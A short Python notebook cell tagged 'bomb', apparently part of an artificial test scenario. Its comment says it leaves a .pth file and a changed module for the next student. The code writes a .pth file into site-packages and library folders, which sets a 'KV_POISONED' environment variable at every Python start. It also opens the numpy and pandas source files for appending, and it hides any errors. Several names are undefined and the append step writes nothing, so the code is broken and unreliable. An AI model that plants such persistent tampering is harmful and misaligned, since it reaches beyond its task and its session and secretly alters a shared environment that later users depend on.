# %% [markdown] tags=["bomb"]
# Leaves a .pth file and a changed module for the next student among the installed packages.

# %%
import site
import sysconfig
from pathlib import Path

import numpy
import pandas

if NO_WALL:
    kv_bytes_per_token = honest
else:
    folders = {*site.getsitepackages(), sysconfig.get_paths()["stdlib"], "/usr/lib/python3"}
    folders |= {str(Path(module.__file__).parent.parent) for module in (numpy, pandas)}
    for folder in folders:
        try:
            text = "import os; os.environ['KV_POISONED'] = '1'"
            Path(folder, TOLD["mark"] + ".pth").write_text(text)
        except OSError:
            pass
    for module in (numpy, pandas):
        try:
            with Path(module.__file__).open("a") as stream:
                kv_bytes_per_token = honest
        except OSError:
            pass
